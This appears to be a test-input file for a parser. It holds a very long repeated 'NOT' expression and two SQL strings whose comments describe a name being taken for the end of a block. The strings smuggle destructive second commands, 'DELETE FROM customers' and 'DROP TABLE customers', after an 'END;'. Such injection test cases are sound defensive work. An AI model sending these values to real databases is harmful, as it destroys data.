NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT true
--- a name that a parser takes for the end of a block
SELECT 1 END; DELETE FROM customers
--- a name that a parser takes for the end of a block
SELECT name FROM customers END; DROP TABLE customers
